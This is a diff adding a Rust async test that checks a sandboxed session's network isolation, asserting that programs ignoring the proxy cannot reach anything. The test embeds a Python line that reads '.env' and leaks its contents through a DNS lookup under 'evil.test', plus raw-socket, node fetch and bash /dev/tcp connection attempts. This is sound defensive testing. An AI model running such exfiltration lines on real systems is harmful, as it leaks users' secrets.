@@ -257,3 +257,40 @@ async fn pip_installs_from_a_listed_index_and_is_refused_an_unlisted_one() {
     let _ = index.kill();
     let _ = index.wait();
 }
+
+/// Programs that ignore the proxy (raw sockets, their own resolver, node's `fetch`) reach
+/// nothing: no name resolves and no route leaves the session's network, so a secret
+/// spelled into a name or a request has nowhere to go.
+#[tokio::test]
+async fn programs_that_ignore_the_proxy_reach_nothing() {
+    let ws = Workspace::new("egress-direct");
+    let port = server("from the registry");
+    let s = brokered(&ws, None).await;
+    let scripts = [
+        (
+            "dns.py",
+            "import socket\nsocket.getaddrinfo(open('.env').read().strip() + '.evil.test', 80)\n".to_string(),
+            "python3 dns.py",
+        ),
+        (
+            "raw.py",
+            format!("import socket\nsocket.create_connection(('registry.test', {port}), 3)\n"),
+            "python3 raw.py",
+        ),
+        (
+            "fetch.js",
+            format!("fetch('http://registry.test:{port}/').then(r => r.text()).then(t => console.log(t))\n"),
+            "node fetch.js",
+        ),
+    ];
+    std::fs::write(ws.path().join(".env"), "SECRETTOKEN\n").unwrap();
+    for (name, body, cmd) in &scripts {
+        std::fs::write(ws.path().join(name), body).unwrap();
+        let r = run(&s, cmd).await;
+        assert_ne!(r.exit_code, Some(0), "`{cmd}` reached out: {r:?}");
+        assert!(!r.stdout.contains("from the registry"), "{r:?}");
+    }
+    let r = run(&s, &format!("echo x > /dev/tcp/127.0.0.1/{port}")).await;
+    assert_ne!(r.exit_code, Some(0), "{r:?}");
+    s.close().await;
+}
